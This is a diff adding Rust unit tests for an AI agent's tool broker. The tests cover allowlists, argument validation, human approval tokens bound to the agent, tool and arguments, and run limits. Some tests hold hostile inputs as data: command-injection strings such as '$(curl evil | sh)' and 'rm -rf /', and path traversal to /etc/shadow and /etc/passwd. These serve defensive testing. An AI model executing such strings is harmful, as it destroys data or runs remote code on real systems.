@@ -410,3 +410,617 @@ fn check_limits(
     }
     None
 }
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use crate::broker::approval::{Token, DEFAULT_PENDING_TTL};
+    use crate::broker::run::{RunStore, StopReason};
+    use crate::crypto::KeyPair;
+    use serde_json::json;
+    use std::path::Path;
+
+    const TOOLS: &str = r#"
+[[tool]]
+name = "cat"
+scope = "read"
+program = "/bin/cat"
+args = ["--", "{file}"]
+timeout = "5s"
+output_cap = "64K"
+[tool.params.file]
+type = "path"
+prefix = "/srv/data"
+
+[[tool]]
+name = "echo"
+scope = "read"
+program = "/bin/echo"
+args = ["{text}"]
+timeout = "1s"
+output_cap = 100
+[tool.params.text]
+type = "string"
+
+[[tool]]
+name = "write"
+scope = "write"
+program = "/usr/local/bin/write-note"
+args = ["{file}", "{text}"]
+timeout = "5s"
+output_cap = 100
+[tool.params.file]
+type = "path"
+prefix = "/srv/notes"
+[tool.params.text]
+type = "string"
+max_len = 1000
+
+[[tool]]
+name = "deploy"
+scope = "execute"
+program = "/usr/local/bin/deploy"
+args = ["--env={env}"]
+timeout = "60s"
+output_cap = "1M"
+[tool.params.env]
+type = "string"
+allowed = ["staging", "prod"]
+
+[[tool]]
+name = "shutdown"
+scope = "execute"
+program = "/sbin/shutdown"
+args = []
+timeout = "1s"
+output_cap = 1
+"#;
+
+    struct Fx {
+        reg: Registry,
+        policy: AgentToolPolicy,
+        key: KeyPair,
+        approvals: ApprovalStore,
+    }
+
+    fn fx() -> Fx {
+        let key = KeyPair::generate();
+        Fx {
+            reg: Registry::parse(TOOLS, Path::new("tools.toml")).unwrap(),
+            policy: AgentToolPolicy {
+                tools: vec!["cat".into(), "echo".into(), "write".into(), "deploy".into()],
+                ..Default::default()
+            },
+            approvals: ApprovalStore::new(key.verifying_key(), DEFAULT_PENDING_TTL),
+            key,
+        }
+    }
+
+    fn prop(tool: &str, args: Value, token: Option<&str>) -> Proposal {
+        Proposal {
+            tool: tool.into(),
+            args: serde_json::from_value(args).unwrap(),
+            token: token.map(String::from),
+        }
+    }
+
+    impl Fx {
+        fn decide(&mut self, p: &Proposal, now: u64) -> Decision {
+            decide(
+                &self.reg,
+                &self.policy,
+                "bot",
+                None,
+                p,
+                &mut self.approvals,
+                now,
+            )
+        }
+        /// Proposes, approves as uid 1000, and returns the encoded token.
+        fn approved(&mut self, p: &Proposal, now: u64) -> String {
+            let Decision::NeedsApproval { request_id } = self.decide(p, now) else {
+                panic!("expected needs_approval")
+            };
+            self.approvals
+                .approve(&request_id, Duration::from_secs(300), 1000, &self.key, now)
+                .unwrap()
+                .encode()
+        }
+    }
+
+    fn code(d: &Decision) -> &'static str {
+        d.code()
+    }
+
+    #[test]
+    fn read_runs_at_once_with_rendered_argv() {
+        let mut f = fx();
+        let d = f.decide(&prop("cat", json!({"file": "/srv/data/a.txt"}), None), 0);
+        assert_eq!(
+            d,
+            Decision::Allow {
+                argv: vec!["/bin/cat".into(), "--".into(), "/srv/data/a.txt".into()],
+                timeout: Duration::from_secs(5),
+                output_cap: 64 << 10,
+            }
+        );
+        assert!(!d.is_rejection());
+    }
+
+    #[test]
+    fn unregistered_and_not_allowed_tools() {
+        let mut f = fx();
+        let d = f.decide(&prop("rm", json!({}), None), 0);
+        assert_eq!(code(&d), "unknown_tool");
+        assert!(d.is_rejection());
+        let d = f.decide(&prop("shutdown", json!({}), None), 0);
+        assert_eq!(code(&d), "not_allowed");
+        let Decision::Deny { reason, .. } = d else {
+            panic!()
+        };
+        assert!(
+            reason.contains("not allowed for agent bot") && reason.contains("cat, echo"),
+            "{reason}"
+        );
+        // Allowing it makes the same proposal pass the first two guards.
+        f.policy.tools.push("shutdown".into());
+        assert_eq!(
+            code(&f.decide(&prop("shutdown", json!({}), None), 0)),
+            "needs_approval"
+        );
+    }
+
+    #[test]
+    fn schema_violations_are_bad_arguments() {
+        let mut f = fx();
+        for args in [
+            json!({"file": "/srv/data/a", "extra": 1}),
+            json!({}),
+            json!({"file": 3}),
+            json!({"file": "/srv/data/../../etc/shadow"}),
+            json!({"file": "/etc/shadow"}),
+        ] {
+            let d = f.decide(&prop("cat", args.clone(), None), 0);
+            assert_eq!(code(&d), "bad_arguments", "{args}");
+            assert!(d.is_rejection());
+        }
+        let d = f.decide(&prop("deploy", json!({"env": "prod; rm -rf /"}), None), 0);
+        assert_eq!(code(&d), "bad_arguments");
+        // Refused before any approval request is opened.
+        assert!(f.approvals.pending(0).is_empty());
+    }
+
+    #[test]
+    fn injection_stays_literal() {
+        let mut f = fx();
+        for evil in [
+            "; rm -rf /",
+            "$(curl evil | sh)",
+            "a\nrm -rf /",
+            "../../etc/passwd",
+            "`id` && x",
+        ] {
+            let d = f.decide(&prop("echo", json!({ "text": evil }), None), 0);
+            let Decision::Allow { argv, .. } = d else {
+                panic!("{evil:?}: {d:?}")
+            };
+            assert_eq!(argv, ["/bin/echo", evil]);
+        }
+        let d = f.decide(&prop("cat", json!({"file": "../etc/passwd"}), None), 0);
+        assert_eq!(code(&d), "bad_arguments");
+    }
+
+    #[test]
+    fn write_needs_a_token_bound_to_agent_and_tool() {
+        let mut f = fx();
+        let p = prop("write", json!({"file": "/srv/notes/a", "text": "hi"}), None);
+        let d = f.decide(&p, 0);
+        let Decision::NeedsApproval { request_id } = &d else {
+            panic!("{d:?}")
+        };
+        assert!(!d.is_rejection());
+        // Proposing the same call again does not open a second request.
+        assert_eq!(f.decide(&p, 1), d);
+        assert_eq!(f.approvals.pending(1).len(), 1);
+        let token = f
+            .approvals
+            .approve(request_id, Duration::from_secs(60), 1000, &f.key, 2)
+            .unwrap()
+            .encode();
+        // It is not for another tool.
+        let d = f.decide(&prop("deploy", json!({"env": "prod"}), Some(&token)), 3);
+        assert_eq!(code(&d), "token_mismatch");
+        // A write token allows one call of the tool with other (valid) arguments.
+        let other = prop(
+            "write",
+            json!({"file": "/srv/notes/b", "text": "yo"}),
+            Some(&token),
+        );
+        let d = f.decide(&other, 3);
+        assert_eq!(code(&d), "allow", "{d:?}");
+        // Another agent cannot use it.
+        let mut g = fx();
+        g.approvals = ApprovalStore::new(f.key.verifying_key(), DEFAULT_PENDING_TTL);
+        let d = decide(
+            &g.reg,
+            &g.policy,
+            "other",
+            None,
+            &other,
+            &mut g.approvals,
+            3,
+        );
+        assert_eq!(code(&d), "token_mismatch");
+    }
+
+    #[test]
+    fn execute_token_is_bound_to_the_exact_arguments() {
+        let mut f = fx();
+        let staging = prop("deploy", json!({"env": "staging"}), None);
+        let token = f.approved(&staging, 0);
+        let prod = prop("deploy", json!({"env": "prod"}), Some(&token));
+        let d = f.decide(&prod, 1);
+        assert_eq!(code(&d), "token_mismatch");
+        let Decision::Deny { reason, .. } = &d else {
+            panic!()
+        };
+        assert!(reason.contains("other arguments"), "{reason}");
+        // The refused try did not use the token up.
+        let ok = prop("deploy", json!({"env": "staging"}), Some(&token));
+        let d = f.decide(&ok, 2);
+        assert_eq!(
+            d,
+            Decision::Allow {
+                argv: vec!["/usr/local/bin/deploy".into(), "--env=staging".into()],
+                timeout: Duration::from_secs(60),
+                output_cap: 1 << 20,
+            }
+        );
+        // Used once, refused after.
+        assert_eq!(code(&f.decide(&ok, 3)), "token_reused");
+    }
+
+    #[test]
+    fn expired_foreign_and_garbled_tokens() {
+        let mut f = fx();
+        let p = prop("deploy", json!({"env": "staging"}), None);
+        let token = f.approved(&p, 0);
+        let with = |t: &str| prop("deploy", json!({"env": "staging"}), Some(t));
+        // 300 s ttl: at 300 s it has expired.
+        let d = f.decide(&with(&token), 300_000);
+        assert_eq!(code(&d), "token_expired");
+        assert!(d.is_rejection());
+        // Same claims signed by another key.
+        let mut t = Token::decode(&token).unwrap();
+        t.signature = KeyPair::generate().sign_hex(b"whatever");
+        assert_eq!(code(&f.decide(&with(&t.encode()), 1)), "token_invalid");
+        let other = KeyPair::generate();
+        let mut t = Token::decode(&token).unwrap();
+        t.claims.expires_at_ms = u64::MAX;
+        let bytes = crate::crypto::canonical_json(&serde_json::to_value(&t.claims).unwrap());
+        t.signature = other.sign_hex(bytes.as_bytes());
+        assert_eq!(code(&f.decide(&with(&t.encode()), 1)), "token_invalid");
+        assert_eq!(code(&f.decide(&with("garbage"), 1)), "token_invalid");
+        // The genuine token still works (nothing above consumed it).
+        assert_eq!(code(&f.decide(&with(&token), 1)), "allow");
+    }
+
+    #[test]
+    fn approval_flow_end_to_end_and_rejection() {
+        let mut f = fx();
+        let mut runs = RunStore::new();
+        let rid = runs.start("bot", "ship it", &f.policy, 0).unwrap();
+        let p = prop("deploy", json!({"env": "prod"}), None);
+        let run = runs.get_mut(&rid);
+        let d = decide(&f.reg, &f.policy, "bot", run, &p, &mut f.approvals, 10);
+        let Decision::NeedsApproval { request_id } = d else {
+            panic!()
+        };
+        let pending = f.approvals.pending(20);
+        assert_eq!(
+            (
+                pending[0].agent.as_str(),
+                pending[0].tool.as_str(),
+                pending[0].age_ms
+            ),
+            ("bot", "deploy", 10)
+        );
+        assert_eq!(pending[0].args["env"], "prod");
+        let token = f
+            .approvals
+            .approve(&request_id, Duration::from_secs(60), 1000, &f.key, 30)
+            .unwrap();
+        // Until the agent presents the token, the request is what it waits on.
+        let run = runs.get_mut(&rid);
+        assert_eq!(
+            decide(&f.reg, &f.policy, "bot", run, &p, &mut f.approvals, 35),
+            Decision::NeedsApproval {
+                request_id: request_id.clone()
+            }
+        );
+        let retry = prop("deploy", json!({"env": "prod"}), Some(&token.encode()));
+        let run = runs.get_mut(&rid);
+        let d = decide(&f.reg, &f.policy, "bot", run, &retry, &mut f.approvals, 40);
+        assert_eq!(code(&d), "allow");
+        let seq = runs.show(&rid).unwrap().last_seq().unwrap();
+        runs.record_result(
+            &rid,
+            seq,
+            crate::broker::run::ExecResult {
+                exit_code: Some(0),
+                result_bytes: 12,
+                truncated: false,
+                duration: Duration::from_millis(7),
+            },
+        )
+        .unwrap();
+        runs.end(&rid, StopReason::Completed, None, 50).unwrap();
+        let run = runs.show(&rid).unwrap();
+        let calls: Vec<_> = run
+            .calls
+            .iter()
+            .map(|c| (c.decision, c.approved_by, c.executed))
+            .collect();
+        assert_eq!(
+            calls,
+            [
+                ("needs_approval", None, false),
+                ("needs_approval", None, false),
+                ("allow", Some(1000), true)
+            ]
+        );
+        assert_eq!((run.steps, run.tool_calls), (3, 1));
+        assert_eq!(run.calls[2].duration_ms, Some(7));
+        let json = serde_json::to_value(run).unwrap();
+        assert_eq!(json["calls"][2]["approved_by"], 1000);
+
+        // A new identical call opens a new request; the operator rejects it.
+        let d = f.decide(&p, 60);
+        let Decision::NeedsApproval { request_id: second } = d else {
+            panic!("{d:?}")
+        };
+        assert_ne!(second, request_id);
+        f.approvals
+            .reject(&second, "prod is frozen this week", 1001, 70)
+            .unwrap();
+        let d = f.decide(&p, 80);
+        assert_eq!(code(&d), "approval_required");
+        assert!(d.is_rejection());
+        let Decision::Deny { reason, .. } = d else {
+            panic!()
+        };
+        assert!(
+            reason.contains("rejected by uid 1001") && reason.contains("prod is frozen this week"),
+            "{reason}"
+        );
+        assert!(f.approvals.pending(80).is_empty());
+    }
+
+    #[test]
+    fn pending_request_expiry_opens_a_fresh_one() {
+        let mut f = fx();
+        let p = prop("deploy", json!({"env": "prod"}), None);
+        let Decision::NeedsApproval { request_id: a } = f.decide(&p, 0) else {
+            panic!()
+        };
+        let ttl = DEFAULT_PENDING_TTL.as_millis() as u64;
+        assert_eq!(f.approvals.expire(ttl).unwrap(), [a.clone()]);
+        let e = f
+            .approvals
+            .approve(&a, Duration::from_secs(1), 0, &f.key, ttl)
+            .unwrap_err();
+        assert!(e.to_string().contains("expired, not pending"), "{e}");
+        let Decision::NeedsApproval { request_id: b } = f.decide(&p, ttl + 1) else {
+            panic!()
+        };
+        assert_ne!(a, b);
+    }
+
+    #[test]
+    fn token_reuse_survives_a_restart() {
+        let dir = tempfile::tempdir().unwrap();
+        let path = dir.path().join("approvals.jsonl");
+        let mut f = fx();
+        f.approvals =
+            ApprovalStore::open(&path, f.key.verifying_key(), DEFAULT_PENDING_TTL).unwrap();
+        let p = prop("deploy", json!({"env": "prod"}), None);
+        let token = f.approved(&p, 0);
+        let with = prop("deploy", json!({"env": "prod"}), Some(&token));
+        assert_eq!(code(&f.decide(&with, 1)), "allow");
+        f.approvals =
+            ApprovalStore::open(&path, f.key.verifying_key(), DEFAULT_PENDING_TTL).unwrap();
+        assert_eq!(code(&f.decide(&with, 2)), "token_reused");
+    }
+
+    #[test]
+    fn run_limits_each_refuse_past_their_bound() {
+        let mut f = fx();
+        let read = prop("echo", json!({"text": "x"}), None);
+        // No run while the agent has limits.
+        f.policy.max_steps = Some(3);
+        assert_eq!(code(&f.decide(&read, 0)), "not_allowed");
+
+        // max_steps counts every proposal, refused ones too.
+        let mut runs = RunStore::new();
+        let id = runs.start("bot", "steps", &f.policy, 0).unwrap();
+        let go = |f: &mut Fx, runs: &mut RunStore, p: &Proposal, now| {
+            decide(
+                &f.reg,
+                &f.policy,
+                "bot",
+                runs.get_mut(&id),
+                p,
+                &mut f.approvals,
+                now,
+            )
+        };
+        assert_eq!(code(&go(&mut f, &mut runs, &read, 1)), "allow");
+        assert_eq!(
+            code(&go(&mut f, &mut runs, &prop("nope", json!({}), None), 2)),
+            "unknown_tool"
+        );
+        assert_eq!(code(&go(&mut f, &mut runs, &read, 3)), "allow");
+        let d = go(&mut f, &mut runs, &read, 4);
+        assert_eq!(code(&d), "limit_exceeded");
+        assert_eq!(
+            StopReason::for_decision(&d),
+            Some(StopReason::LimitExceeded)
+        );
+        runs.end(&id, StopReason::LimitExceeded, None, 5).unwrap();
+        assert_eq!(code(&go(&mut f, &mut runs, &read, 6)), "not_allowed");
+
+        // max_tool_calls counts allowed calls only.
+        f.policy.max_steps = None;
+        f.policy.max_tool_calls = Some(2);
+        let id = runs.start("bot", "calls", &f.policy, 10).unwrap();
+        let go = |f: &mut Fx, runs: &mut RunStore, p: &Proposal| {
+            decide(
+                &f.reg,
+                &f.policy,
+                "bot",
+                runs.get_mut(&id),
+                p,
+                &mut f.approvals,
+                11,
+            )
+        };
+        assert_eq!(code(&go(&mut f, &mut runs, &read)), "allow");
+        assert_eq!(
+            code(&go(&mut f, &mut runs, &prop("nope", json!({}), None))),
+            "unknown_tool"
+        );
+        assert_eq!(code(&go(&mut f, &mut runs, &read)), "allow");
+        assert_eq!(code(&go(&mut f, &mut runs, &read)), "limit_exceeded");
+        runs.end(&id, StopReason::LimitExceeded, None, 12).unwrap();
+
+        // max_runtime from run.start.
+        f.policy.max_tool_calls = None;
+        f.policy.max_runtime = Some(Duration::from_secs(60));
+        let id = runs.start("bot", "time", &f.policy, 100_000).unwrap();
+        let run = runs.get_mut(&id);
+        assert_eq!(
+            code(&decide(
+                &f.reg,
+                &f.policy,
+                "bot",
+                run,
+                &read,
+                &mut f.approvals,
+                159_999
+            )),
+            "allow"
+        );
+        let run = runs.get_mut(&id);
+        let d = decide(
+            &f.reg,
+            &f.policy,
+            "bot",
+            run,
+            &read,
+            &mut f.approvals,
+            160_000,
+        );
+        assert_eq!(code(&d), "limit_exceeded");
+        let Decision::Deny { reason, .. } = d else {
+            panic!()
+        };
+        assert!(reason.contains("max_runtime is 1m"), "{reason}");
+    }
+
+    #[test]
+    fn a_limit_refusal_does_not_consume_the_token() {
+        let mut f = fx();
+        f.policy.max_tool_calls = Some(1);
+        let mut runs = RunStore::new();
+        let id = runs.start("bot", "g", &f.policy, 0).unwrap();
+        let read = prop("echo", json!({"text": "x"}), None);
+        let p = prop("deploy", json!({"env": "prod"}), None);
+        let Decision::NeedsApproval { request_id } = decide(
+            &f.reg,
+            &f.policy,
+            "bot",
+            runs.get_mut(&id),
+            &p,
+            &mut f.approvals,
+            1,
+        ) else {
+            panic!()
+        };
+        let token = f
+            .approvals
+            .approve(&request_id, Duration::from_secs(60), 1000, &f.key, 2)
+            .unwrap()
+            .encode();
+        assert_eq!(
+            code(&decide(
+                &f.reg,
+                &f.policy,
+                "bot",
+                runs.get_mut(&id),
+                &read,
+                &mut f.approvals,
+                3
+            )),
+            "allow"
+        );
+        let with = prop("deploy", json!({"env": "prod"}), Some(&token));
+        assert_eq!(
+            code(&decide(
+                &f.reg,
+                &f.policy,
+                "bot",
+                runs.get_mut(&id),
+                &with,
+                &mut f.approvals,
+                4
+            )),
+            "limit_exceeded"
+        );
+        runs.end(&id, StopReason::LimitExceeded, None, 5).unwrap();
+        let id = runs.start("bot", "g2", &f.policy, 6).unwrap();
+        assert_eq!(
+            code(&decide(
+                &f.reg,
+                &f.policy,
+                "bot",
+                runs.get_mut(&id),
+                &with,
+                &mut f.approvals,
+                7
+            )),
+            "allow"
+        );
+    }
+
+    #[test]
+    fn agent_policy_parses_strictly_as_a_toml_table() {
+        let p: AgentToolPolicy = toml::from_str(
+            "tools = [\"cat\", \"ghost\"]\nmax_steps = 50\nmax_tool_calls = 20\nmax_runtime = \"30m\"\n",
+        )
+        .unwrap();
+        assert_eq!(p.max_runtime, Some(Duration::from_secs(1800)));
+        assert_eq!(p.unknown_tools(&fx().reg), ["ghost"]);
+        assert!(toml::from_str::<AgentToolPolicy>("tools = []\nsudo = true\n").is_err());
+        assert!(toml::from_str::<AgentToolPolicy>("max_runtime = \"soon\"\n").is_err());
+        let d = Decision::Deny {
+            code: DenyCode::TokenReused,
+            reason: "r".into(),
+        };
+        assert_eq!(
+            serde_json::to_value(&d).unwrap(),
+            json!({"decision": "deny", "code": "token_reused", "reason": "r"})
+        );
+        for c in [
+            DenyCode::UnknownTool,
+            DenyCode::LimitExceeded,
+            DenyCode::StoreFailed,
+        ] {
+            assert_eq!(serde_json::to_value(c).unwrap(), c.as_str());
+        }
+        assert!(!Decision::Deny {
+            code: DenyCode::StoreFailed,
+            reason: String::new()
+        }
+        .is_rejection());
+    }
+}
